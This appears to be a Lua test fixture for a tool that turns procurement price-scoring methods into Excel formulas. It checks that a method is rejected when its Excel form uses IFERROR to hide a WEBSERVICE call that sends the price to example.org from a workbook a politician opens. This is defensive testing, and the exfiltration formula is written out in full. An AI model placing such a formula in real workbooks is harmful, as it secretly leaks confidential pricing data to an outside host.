-- expect: model_excel_webservice.lua:10: price "Pris": "formula": method "leak": its Excel form calls IFERROR, which is not one of the functions
-- Trick: a model's own method whose Excel form calls out of the workbook a
-- politician opens (WEBSERVICE sends the price away; IFERROR hides it).
-- It was written as a live formula (exit 0). The Excel form of a method is
-- checked against an allow-list of functions when the model loads.
model { id = "leak", title = "Leak", basis = "points" }
local leak = method { name = "leak", kind = "price_points",
  excel = 'IFERROR(WEBSERVICE("http://example.org/leak?p="&{price})*0,0)+{max}*{lowest}/{price}',
  fn = function(price, c) return c.max * c.lowest / price end }
price "Pris" { max = 10, formula = leak }
